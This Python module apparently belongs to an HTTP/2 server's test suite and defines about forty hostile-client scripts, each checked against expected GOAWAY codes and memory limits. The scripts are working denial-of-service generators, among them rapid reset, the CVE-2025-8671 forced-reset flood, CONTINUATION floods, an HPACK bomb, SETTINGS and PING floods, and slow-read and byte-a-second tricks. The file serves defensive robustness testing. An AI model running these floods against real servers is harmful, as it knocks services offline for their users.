"""Hostile clients of HTTP/2 (RFC 9113 section 10.5)."""

from collections.abc import Callable

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from support.hostile.attack import Attack, Script, dripping, once, repeated

MAGIC = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PREFACE = MAGIC + SettingsFrame(0).serialize()

# The code of a GOAWAY that ends who costs more than he pays.
CALM = "GOAWAY 11"

# SETTINGS_HEADER_TABLE_SIZE, _MAX_CONCURRENT_STREAMS, _INITIAL_WINDOW_SIZE.
TABLE_SIZE, STREAMS, WINDOW = 1, 3, 4


def raw(kind: int, payload: bytes, flags: int = 0, stream: int = 0) -> bytes:
    """A frame of any kind."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def settings(**values: int) -> bytes:
    """The magic and settings of a client."""
    return MAGIC + SettingsFrame(0, settings={globals()[name]: value for name, value in values.items()}).serialize()


def head(encoder: Encoder, stream: int, path: str = "/", method: str = "GET", **more: str) -> bytes:
    """A request without a body, or the beginning of a POST."""
    fields = [(":method", method), (":path", path), (":scheme", "http"), (":authority", "t")]
    block = encoder.encode([*fields, *((name.replace("_", "-"), value) for name, value in more.items())])
    flags = ["END_HEADERS", "END_STREAM"] if method == "GET" else ["END_HEADERS"]
    return HeadersFrame(stream, block, flags=flags).serialize()


def on_streams(
    frames: Callable[[Encoder, int], bytes], first: bytes = PREFACE, at_once: int = 200
) -> Callable[[], Script]:
    """A script of what opens one stream after the other."""

    def script() -> Script:
        encoder, stream = Encoder(), 1
        yield first
        while stream < 1 << 30:
            numbers = range(stream, stream + 2 * at_once, 2)
            stream += 2 * at_once
            yield b"".join(frames(encoder, number) for number in numbers)

    return script


def requests(path: str, count: int = 100, first: bytes = PREFACE) -> bytes:
    """Requests without bodies on so many streams, behind what a client says first."""
    encoder = Encoder()
    return first + b"".join(head(encoder, number, path) for number in range(1, 2 * count, 2))


def _posting(path: str = "/takes") -> bytes:
    return PREFACE + head(Encoder(), 1, path, "POST")


def _reset(encoder: Encoder, stream: int) -> bytes:
    return head(encoder, stream) + RstStreamFrame(stream, 8).serialize()


def _made_to_reset(encoder: Encoder, stream: int) -> bytes:
    """A request, and a frame that makes the server reset it (CVE-2025-8671)."""
    return (
        head(encoder, stream, "/waits", "POST") + WindowUpdateFrame(stream, window_increment=(1 << 31) - 1).serialize()
    )


def _too_long(encoder: Encoder, stream: int) -> bytes:
    """A request whose body has more bytes than it says, for which the server resets it as well."""
    return head(encoder, stream, "/waits", "POST", content_length="1") + DataFrame(stream, b"xx").serialize()


def _with_bad_trailers(encoder: Encoder, stream: int) -> bytes:
    """A request that ends with what is no field."""
    block = encoder.encode([("Upper", "x")])
    return (
        head(encoder, stream, "/waits", "POST")
        + HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
    )


def _with_trailers(encoder: Encoder, stream: int) -> bytes:
    """A request that ends with as many trailers as it may have."""
    block = encoder.encode([(f"a{number}", "b") for number in range(250)])
    return (
        head(encoder, stream, "/takes", "POST")
        + HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
    )


def _moving_windows() -> Script:
    """Settings that open and close the windows of 100 streams at a time, by a byte."""
    frames = b"".join(SettingsFrame(0, settings={WINDOW: size}).serialize() for size in (1, 0))
    yield requests("/endless", first=settings(WINDOW=0))
    while True:
        yield frames * 1000


def _continued(size: int) -> Callable[[], Script]:
    block = Encoder().encode([(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "t")])
    first = PREFACE + HeadersFrame(1, block).serialize()
    return repeated(first, ContinuationFrame(1, b"\x00\x01a\x01b" * size).serialize())


def _bomb() -> Script:
    """Heads of a few bytes that stand for a large field, again and again (HPACK's dynamic table)."""
    encoder, stream = Encoder(), 1
    yield PREFACE + head(encoder, stream, x_large="x" * 4000)
    # RFC 7541 section 6.1: the newest entry of the dynamic table has the index 62.
    block = encoder.encode([(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "t")])
    while True:
        stream += 2
        yield HeadersFrame(stream, block + b"\xbe" * 16000, flags=["END_HEADERS", "END_STREAM"]).serialize()


def _data(frame: Frame) -> Callable[[], Script]:
    return repeated(_posting(), frame.serialize())


ATTACKS = [
    Attack("HTTP/2: SETTINGS", repeated(PREFACE, SettingsFrame(0).serialize())),
    Attack("HTTP/2: SETTINGS, not reading", repeated(PREFACE, SettingsFrame(0).serialize()), reads=0),
    Attack("HTTP/2: SETTINGS of 100 entries", repeated(PREFACE, raw(4, b"\0\4\0\1\0\0" * 100)), said=CALM),
    Attack("HTTP/2: SETTINGS at 300 KB/s each", repeated(PREFACE, SettingsFrame(0).serialize() * 333, pause=0.01)),
    Attack("HTTP/2: PING", repeated(PREFACE, PingFrame(0, opaque_data=b"12345678").serialize())),
    Attack("HTTP/2: PING, not reading", repeated(PREFACE, PingFrame(0, opaque_data=b"12345678").serialize()), reads=0),
    Attack(
        "HTTP/2: acknowledged PING",
        repeated(PREFACE, PingFrame(0, opaque_data=b"12345678", flags=["ACK"]).serialize()),
        said=CALM,
    ),
    Attack(
        "HTTP/2: PRIORITY", repeated(PREFACE, PriorityFrame(1, depends_on=0, stream_weight=16).serialize()), said=CALM
    ),
    Attack("HTTP/2: PRIORITY_UPDATE", repeated(PREFACE, raw(0x10, b"\0\0\0\1u=1")), said=CALM),
    Attack("HTTP/2: WINDOW_UPDATE", repeated(PREFACE, WindowUpdateFrame(0, window_increment=1).serialize()), said=CALM),
    Attack("HTTP/2: unknown frames", repeated(PREFACE, raw(0x55, b"")), said=CALM),
    Attack("HTTP/2: unknown frames of 16 KB", repeated(PREFACE, raw(0x55, bytes(16384))), said=CALM),
    Attack("HTTP/2: empty DATA", _data(DataFrame(1, b"")), said=CALM),
    Attack("HTTP/2: padded empty DATA", _data(DataFrame(1, b"", flags=["PADDED"], pad_length=255)), said=CALM),
    Attack("HTTP/2: DATA of one byte", _data(DataFrame(1, b"x"))),
    Attack(
        "HTTP/2: DATA on a closed stream", repeated(PREFACE + head(Encoder(), 1), DataFrame(1, b"x" * 100).serialize())
    ),
    Attack(
        "HTTP/2: RST_STREAM of closed streams",
        repeated(PREFACE + head(Encoder(), 1), RstStreamFrame(1, 8).serialize()),
        said=CALM,
    ),
    Attack("HTTP/2: rapid reset", on_streams(_reset), said=CALM, quick=True),
    Attack("HTTP/2: streams that the worker has to reset", on_streams(_made_to_reset, at_once=50)),
    Attack("HTTP/2: bodies longer than they say", on_streams(_too_long), said=CALM, memory=4608),
    Attack("HTTP/2: trailers that are none", on_streams(_with_bad_trailers), said=CALM),
    Attack("HTTP/2: trailers", on_streams(_with_trailers, at_once=50)),
    Attack("HTTP/2: settings that move the windows of 100 streams", _moving_windows, memory=12 * 1024),
    Attack(
        "HTTP/2: PRIORITY_UPDATE of ever new streams",
        on_streams(lambda encoder, stream: raw(0x10, stream.to_bytes(4, "big") + b"u=1"), at_once=1000),
        said=CALM,
    ),
    Attack("HTTP/2: requests by a hundred clients", on_streams(head, at_once=100), connections=100),
    Attack("HTTP/2: requests that wait, of a hundred clients", once(requests("/waits")), connections=100, memory=1600),
    Attack("HTTP/2: CONTINUATION", _continued(50)),
    Attack("HTTP/2: empty CONTINUATION", _continued(0)),
    Attack("HTTP/2: HPACK bomb", _bomb),
    # A hundred requests that wait keep 800 to 900 KiB, as in states.py; and those of connections that have been ended
    # for it are told a few in a turn, while the next client has opened its own.
    Attack(
        "HTTP/2: more streams than allowed",
        on_streams(lambda encoder, stream: head(encoder, stream, "/waits"), at_once=100),
        memory=1300,
    ),
    Attack("HTTP/2: requests, not reading", on_streams(head, at_once=100), reads=0),
    Attack(
        "HTTP/2: window 0, 100 streams of 100 KB",
        once(requests("/big?size=100000", first=settings(WINDOW=0))),
        memory=12 * 1024,
    ),
    Attack(
        "HTTP/2: window 0, 100 endless streams", once(requests("/endless", first=settings(WINDOW=0))), memory=10 * 1024
    ),
    Attack(
        "HTTP/2: windows of a byte",
        repeated(
            requests("/endless", first=settings(WINDOW=0)),
            b"".join(WindowUpdateFrame(number, window_increment=1).serialize() for number in range(1, 200, 2)),
            pause=0.1,
        ),
        memory=10 * 1024,
    ),
    Attack("HTTP/2: a reader of a byte a second", once(requests("/endless", 1)), reads=1, rest=1.0),
    Attack(
        "HTTP/2: bodies that nobody reads",
        on_streams(
            lambda encoder, stream: (
                head(encoder, stream, "/waits", "POST") + DataFrame(stream, bytes(16000)).serialize()
            ),
            at_once=60,
        ),
        memory=4096,
    ),
    Attack(
        "HTTP/2: a byte a second of a body",
        repeated(_posting(), DataFrame(1, b"x").serialize(), pause=1.0),
        connections=200,
        memory=64,
    ),
    Attack("HTTP/2: half a preface", once(MAGIC[:10]), connections=200, memory=16),
    Attack("HTTP/2: a preface alone", once(PREFACE), connections=200, memory=32),
    Attack(
        "HTTP/2: a byte a second of a head",
        dripping(PREFACE, requests("/", 1, b"") * 20, 1.0),
        connections=200,
        memory=32,
    ),
    Attack("HTTP/2: connections that are reset", lambda: iter([requests("/", 10)]), last="reset"),
    Attack("HTTP/2: half-closed", lambda: iter([requests("/waits", 100)]), last="half"),
]
